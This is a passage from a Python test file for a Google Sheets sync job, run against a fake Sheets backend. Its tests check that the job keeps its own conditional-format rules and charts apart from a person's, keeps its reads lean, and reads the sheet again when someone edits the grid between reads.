    rules = fake.conditional_formats(sheet, TAB)
    assert all("endRowIndex" not in r["ranges"][0] for r in rules), "rows run to the sheet's end"
    if edit == "insert":
        EDITS["insert-row"](fake, sheet)
    else:
        fake.delete_rows(sheet, TAB, 3)
    fake.reset_log()
    result = run(config, sa)
    # the task added or removed moves the summary's tables (a phase more or less): its look
    # and charts are redone in one batchUpdate that touches nothing on the tracker tab
    assert result.requests == {"read": 2, "write": 2}
    assert [r.kind for r in fake.requests if r.kind != "token"] == [
        "get",
        "values.batchGet",
        "batchUpdate",
        "values.batchUpdateByDataFilter",
    ]
    with fake._lock:
        tracker_id = fake._ss(sheet).sheet_named(TAB).sheet_id
    batch = next(r for r in fake.requests if r.kind == "batchUpdate").body["requests"]
    assert tracker_id not in {
        q[k].get("range", {}).get("sheetId") for q in batch for k in q if isinstance(q[k], dict)
    }, "nothing on the tracker tab"
    assert fake.conditional_formats(sheet, TAB) == rules, "the rules were not rewritten"
    assert in_sync(config, sa, ruleset)


def test_rules_moved_by_an_inserted_column_are_still_the_jobs(
    fake: SheetsFake, sheet: str, sa: Path, ruleset: RuleSet
) -> None:
    """A person inserts a column: Sheets moves every rule's ranges (and, in the fake as in
    Sheets, its cell references). The job recognises its moved rules -- no second set."""
    config = make_config(fake, sheet, sa)
    run(config, sa)
    before = job_rule_count(fake, sheet)
    fake.insert_columns(sheet, TAB, "C", 1)
    fake.set_cell(sheet, TAB, 1, 3, "预算")
    run(config, sa)
    wanted = len(fresh_plan_rules(config, sa, ruleset))
    assert wanted == before + 1, "one more human column, one more cell rule"
    assert job_rule_count(fake, sheet) == wanted, "the moved rules were replaced, not duplicated"
    assert in_sync(config, sa, ruleset)


def test_rules_written_before_the_record_existed_are_recognised(
    fake: SheetsFake, sheet: str, sa: Path, ruleset: RuleSet
) -> None:
    """A sheet synced by an earlier version: bounded rule ranges, no record, only the job's
    metadata listing the rules. They are the job's (replaced, not duplicated); a person's rule
    in the same colour is not."""
    from sync.backends.gsheets.build import cf_json as _cf_json

    config = make_config(fake, sheet, sa)
    run(config, sa)
    snap = backend(config, sa).read()
    record = fake.developer_metadata(sheet, key="tracker_sync.formats")[0]
    fake.apply_requests(
        sheet,
        [
            {"deleteConditionalFormatRule": {"sheetId": 0, "index": 0}}
            for _ in snap.conditional_formats
        ]
        + [
            {"addConditionalFormatRule": {"rule": _cf_json(0, r, bounded=True), "index": i}}
            for i, r in enumerate(snap.conditional_formats)
        ]
        + [{"addConditionalFormatRule": {"rule": person_rule(), "index": 0}}]
        + [
            {
                "deleteDeveloperMetadata": {
                    "dataFilter": {"developerMetadataLookup": {"metadataId": record["metadataId"]}}
                }
            }
        ],
    )
    assert backend(config, sa).read().conditional_formats == snap.conditional_formats
    EDITS["insert-row"](fake, sheet)  # moves the bounded ranges' ends: the job rewrites its rules
    run(config, sa)
    assert len(persons_rules(fake, sheet)) == 1
    assert job_rule_count(fake, sheet) == len(snap.conditional_formats)
    assert in_sync(config, sa, ruleset)


# ---------------------------------------------------------------------------- lean reads


def test_the_read_asks_only_for_what_the_pipeline_uses(
    fake: SheetsFake, ruleset: RuleSet, sa: Path
) -> None:
    """Two compact reads (prettyPrint=false): ``spreadsheets.get`` with no cell value (per cell
    only the number-format type, where a cell carries a format), then ``values:batchGet`` of
    every tab (plain JSON items, unformatted): the values about the tabs' size as CSV. Here the
    structure read is mostly the summary tab's styled cells, a fixed size; at 1k rows and more
    the two together are within twice the CSV (benchmarks/bench_sheets.py)."""
    import csv
    import io

    sheet = big_tracker(fake, ruleset, 300)
    config = make_config(fake, sheet, sa)
    run(config, sa)
    fake.reset_log()
    assert run(config, sa).requests == {"read": 2, "write": 0}
    (meta,) = [r for r in fake.requests if r.kind == "get"]
    (values,) = [r for r in fake.requests if r.kind == "values.batchGet"]
    assert meta.query["prettyPrint"] == ["false"] and values.query["prettyPrint"] == ["false"]
    fields = meta.query["fields"][0]
    assert "effectiveFormat" not in fields and "effectiveValue" not in fields
    assert values.query["valueRenderOption"] == ["UNFORMATTED_VALUE"]
    assert sorted(values.query["ranges"]) == sorted(f"'{t}'" for t in fake.sheet_titles(sheet))
    text = io.StringIO()
    for tab in fake.sheet_titles(sheet):
        csv.writer(text).writerows(fake.values(sheet, tab))
    csv_size = len(text.getvalue().encode())
    assert values.response_size < 1.25 * csv_size
    # the summary tab's styled cells answer {"userEnteredFormat":{}} each: a fixed ~150 KB
    assert meta.response_size + values.response_size < 2.5 * csv_size


@pytest.mark.parametrize("edit", ["insert-row", "delete-row", "insert-column", "rename-tab"])
def test_a_grid_resized_between_the_two_reads_is_read_again(
    fake: SheetsFake, sheet: str, sa: Path, ruleset: RuleSet, edit: str
) -> None:
    """A person inserts or deletes a row or column, or renames a tab, between the structure
    read and the values read: the grid sizes disagree (or the values read names a tab that is
    gone), so the job reads both again rather than match anchors and percent formats to cells
    that moved."""
    fake.add_sheet(sheet, "名单", [["姓名"], ["张伟"]])
    config = make_config(fake, sheet, sa)
    run(config, sa)
    before = [r[:HUMAN] for r in fake.values(sheet, TAB)]
    people = {
        "insert-row": lambda f: f.insert_rows(sheet, TAB, 3, [["插入的行"]]),
        "delete-row": lambda f: f.delete_rows(sheet, TAB, 3),
        "insert-column": lambda f: f.insert_columns(sheet, TAB, "C", 1),
        "rename-tab": lambda f: f.rename_sheet(sheet, "名单", "人员名单"),
    }
    fake.on_request(1, people[edit], kind="values.batchGet")
    fake.reset_log()
    run(config, sa)
    kinds = [r.kind for r in fake.requests if r.kind in ("get", "values.batchGet")]
    assert kinds == ["get", "values.batchGet", "get", "values.batchGet"]
    after = fake.values(sheet, TAB)
    if edit == "delete-row":
        assert [r[:HUMAN] for r in after] == before[:2] + before[3:]
    assert in_sync(config, sa, ruleset)


def test_a_persons_chart_on_the_summary_tab_is_theirs(
    fake: SheetsFake, ruleset: RuleSet, sa: Path
) -> None:
    """The job records the ids of the charts it draws (developer metadata
    ``tracker_sync.charts``, in the batch that draws them). A chart a person adds on the job's
    summary tab is not among them: when the layout moves and the job redraws its charts, theirs
    stays; when every chart of the job's is gone, the job draws its own again although a chart
    (theirs) is still on the tab."""
    sheet = big_tracker(fake, ruleset, 40)
    config = make_config(fake, sheet, sa)
    first = run(config, sa)
    ours = {int(c["chartId"]) for c in fake.charts(sheet, "推广概览")}
    assert len(ours) == 3
    record = fake.developer_metadata(sheet, key="tracker_sync.charts")
    assert len(record) == 1 and set(json.loads(record[0]["metadataValue"])["charts"]) == ours
    summary_id = fake.sheet_properties(sheet, "推广概览")["sheetId"]
    theirs = {
        "addChart": {
            "chart": {
                "chartId": 4242,
                "spec": {"title": "我的图", "basicChart": {"chartType": "COLUMN"}},
                "position": {
                    "overlayPosition": {"anchorCell": {"sheetId": summary_id, "rowIndex": 0}}
                },
            }
        }
    }
    fake.apply_requests(sheet, [theirs])

    # a list outgrows its reserved rows: the layout moves, the job's charts are drawn again
    room = first.desired.summary.capacity["delayed"]
    late = first.summary.status_counts["delayed"]
    fake.insert_rows(sheet, TAB, 5, [late_task(i) for i in range(room - late + 3)])
    run(config, sa)
    after = {int(c["chartId"]) for c in fake.charts(sheet, "推广概览")}
    assert 4242 in after, "the person's chart stays"
    assert len(after) == 4 and not (after & ours), "the job's three drawn anew, not added twice"

    # people delete the job's charts; theirs stays on the tab: the job draws its own again
    fake.apply_requests(sheet, [{"deleteEmbeddedObject": {"objectId": i}} for i in after - {4242}])
    run(config, sa)
    again = {int(c["chartId"]) for c in fake.charts(sheet, "推广概览")}
    assert 4242 in again and len(again) == 4
